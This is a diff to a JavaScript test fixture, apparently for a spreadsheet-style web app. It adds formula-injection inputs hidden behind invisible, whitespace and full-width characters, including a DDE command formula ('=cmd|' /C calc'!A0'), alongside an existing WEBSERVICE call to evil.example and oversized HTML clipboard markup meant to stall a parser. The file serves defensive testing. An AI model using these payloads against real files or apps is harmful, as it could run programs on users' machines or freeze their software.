@@ -39,6 +39,20 @@ export const TEXTS = {
   "a negative formula": "-2+3+cmd|' /C calc'!A0",
   "a web service as a formula": '=WEBSERVICE("https://evil.example/")',
   "a formula behind a tab": "\t=1+1",
+  "a formula behind a line feed": "\n=1+1",
+  "a formula behind a vertical tab": "\u000b=1+1",
+  "a formula behind blanks": " \u3000\u00a0=1+1",
+  "a formula behind NUL": "\u0000=1+1",
+  "a formula behind a letter without width": "\u200b=1+1",
+  "a formula behind a byte order mark": "\ufeff=1+1",
+  "a formula behind a mark of direction": "\u200e=1+1",
+  "a formula in full width": "＝１＋１",
+  "a plus in full width": "＋１＋１",
+  "a minus in full width": "－２＋３",
+  "a function in full width": "＠ＳＵＭ（１）",
+  "a sum": "+1+1",
+  "a function": "@SUM(1)",
+  "a program as a formula": "=cmd|' /C calc'!A0",
   "a formula behind a quote": "'=1+1",
   "a formula behind a separator": '","=1+1',
   "a formula behind a semicolon": "x;=1+1;\"=1+1",
@@ -70,6 +84,22 @@ export const TEXTS = {
   "percent signs": "%3Cscript%3Eran()%3C/script%3E%00%s%n",
   "lines of every kind": "一\r\n二\n三\r四\u2028五\u2029六\u000b七",
   "a hundred thousand letters": "長".repeat(100_000),
+};
+
+/**
+ * Markup on the clipboard that is made to hold its reader up, by what it is, with what comes of it: what its table fills, or
+ * nothing, since it is given up.
+ */
+export const MARKUP = {
+  "a tag that never ends": [() => `<table><tr><td>1<td>2<${"a".repeat(100_000)}`, "2か所に貼り付けました。"],
+  "styles in a tag": [() => `<table><tr><td>1<td>2${"<style ".repeat(150_000)}`, "2か所に貼り付けました。"],
+  "styles that never end": [() => `<table><tr><td>1<td>2${"<style>".repeat(150_000)}`, "2か所に貼り付けました。"],
+  "attributes": [() => `<table><tr><td>1<td ${"a=9 ".repeat(150_000)}>2</table>`, "2か所に貼り付けました。"],
+  "tables in one another": [() => `<table><tr><td>1<td>2<td>${"<table><tr><td>".repeat(10_000)}`, "3か所に貼り付けました。"],
+  "elements in one another": [() => `<table><tr><td>1<td>${"<div><b>".repeat(100_000)}2`, "2か所に貼り付けました。"],
+  "a row of spans": [() => `<table><tr>${"<td colspan=1000>1".repeat(60_000)}</table>`, null],
+  "rows of spans": [() => `<table>${"<tr><td colspan=1000>1".repeat(60_000)}</table>`, null],
+  "more than is read": [() => `<table><tr><td>1<td>2</table>${" ".repeat(10_000_000)}`, null],
 };
 
 /** Addresses behind the `#`. */
